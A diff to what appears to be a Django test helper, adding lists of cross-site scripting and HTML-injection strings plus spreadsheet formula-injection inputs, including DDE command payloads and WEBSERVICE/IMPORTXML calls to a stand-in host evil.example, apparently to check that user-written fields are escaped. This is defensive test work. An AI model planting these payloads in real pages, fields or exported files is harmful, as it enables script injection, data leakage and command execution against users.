@@ -20,6 +20,30 @@ OF_PROGRAMS = frozenset(
     }
 )  # fmt: skip
 
+#: Markup that would show, run or lead away where it is not escaped; MARK stands in each.
+MARK = "xq9"
+MARKUP = (
+    "<script>alert('xq9')</script>", "\"><script>alert('xq9')</script>", "'><script>alert(/xq9/)</script>",
+    "</script><script>alert('xq9')</script>", "</title><script>alert('xq9')</script>", "<xq9>", "</p><xq9 a=1>",
+    "</textarea><xq9>", "</option></select><xq9>", "</style><xq9>", "--><xq9>", "<!--<xq9>-->", "]]><xq9>",
+    "<img src=x onerror=xq9()>", "\"><img src=x onerror=xq9()>", "<svg onload=xq9()>", "<svg/onload=xq9()>",
+    "<svg><script>xq9()</script>", "<math><mi xq9=1>", "\" onmouseover=\"xq9()", "' onfocus='xq9()' autofocus='",
+    "\" autofocus onfocus=xq9() x=\"", "` onclick=xq9() `", "\" hx-get=\"/xq9\" hx-trigger=\"load", "\" style=\"xq9:1",
+    "' hx-on::load='xq9()", "javascript:xq9()", "JaVaScRiPt:xq9()", "java\tscript:xq9()", "data:text/html,<xq9>",
+    "<a href=javascript:xq9()>x</a>", "<iframe srcdoc='<xq9>'>", "<base href=//xq9.test>", "<form action=//xq9.test>",
+    "<meta http-equiv=refresh content='0;url=//xq9.example'>", "<link rel=stylesheet href=//xq9.example>",
+    "{{ xq9 }}{% xq9 %}", "${xq9}#{xq9}<%= xq9 %>", "&lt;xq9&gt;&#60;xq9&#62;", "\u2028<xq9>\u202e＜xq9＞",
+    "<<xq9>script>", "<xq9\x0c/x>",
+)  # fmt: skip
+#: What spreadsheets would compute.
+FORMULAS = (
+    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")",
+    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\",\"/c calc\",\"x\")", "=INDIRECT(\"A1\")", "={1;2}",
+    "==1+1", "+1+1", "+cmd|'/c calc'!A0", "+81-3-1234", "-1+1", "-cmd|'/c calc'!A0", "--1", "@SUM(1+1)", "@1", "@@x",
+    "\t=1+1", "\r=1+1", " =1+1", "　=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "\"=1+1\"", "|=1+1",
+    "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1",
+)  # fmt: skip
+
 
 def columns() -> Iterator[tuple[type[models.Model], models.Field[object, object]]]:
     """Every column that holds what people write."""
